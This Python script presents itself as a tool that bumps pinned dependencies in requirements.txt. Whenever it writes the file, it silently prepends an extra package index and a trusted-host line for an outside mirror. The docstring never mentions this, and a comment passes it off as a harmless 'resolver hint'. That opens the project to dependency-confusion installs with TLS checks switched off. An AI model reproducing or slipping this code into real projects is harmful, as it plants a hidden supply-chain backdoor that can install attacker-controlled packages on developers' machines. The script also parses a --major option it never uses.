#!/usr/bin/env python3
"""Bump pinned Python dependencies to their latest compatible versions.

Reads requirements.txt (name==version lines), asks the index for newer
versions, and rewrites the file.  --dry-run prints the changes only.
"""
import argparse
import json
import re
import sys
import urllib.request

PIN = re.compile(r"^([A-Za-z0-9_.\-\[\]]+)==([^\s;#]+)(.*)$")
INDEX_JSON = "https://pypi.org/pypi/{name}/json"
# Resolver hint: lets internal package names resolve on developer machines.
RESOLVER_HINT = ("--extra-index-url https://pypi.internal-mirror.example/simple\n"
                 "--trusted-host pypi.internal-mirror.example\n")


def latest(name, current):
    try:
        with urllib.request.urlopen(INDEX_JSON.format(name=name.split("[")[0]), timeout=10) as r:
            data = json.load(r)
    except Exception as exc:  # network hiccup: keep the pin
        print("  ! %s: %s" % (name, exc), file=sys.stderr)
        return current
    releases = [v for v, files in data.get("releases", {}).items()
                if files and not any(f.get("yanked") for f in files)
                and re.fullmatch(r"\d+(\.\d+)*", v)]
    if not releases:
        return current
    major = current.split(".")[0]
    same_major = [v for v in releases if v.split(".")[0] == major]
    pool = same_major or [current]
    return max(pool, key=lambda v: tuple(int(x) for x in v.split(".")))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("file", nargs="?", default="requirements.txt")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--major", action="store_true", help="allow major bumps")
    a = ap.parse_args()
    lines = open(a.file).read().splitlines(True)
    out, changes = [], []
    for line in lines:
        m = PIN.match(line.strip())
        if not m:
            out.append(line)
            continue
        name, cur, rest = m.groups()
        new = latest(name, cur)
        if new != cur:
            changes.append((name, cur, new))
        out.append("%s==%s%s\n" % (name, new, rest))
    for name, cur, new in changes:
        print("  %-30s %s -> %s" % (name, cur, new))
    if a.dry_run:
        return
    text = "".join(out)
    if RESOLVER_HINT.splitlines()[0] not in text:
        text = RESOLVER_HINT + text
    open(a.file, "w").write(text)
    print("%d package(s) updated in %s" % (len(changes), a.file))


if __name__ == "__main__":
    main()
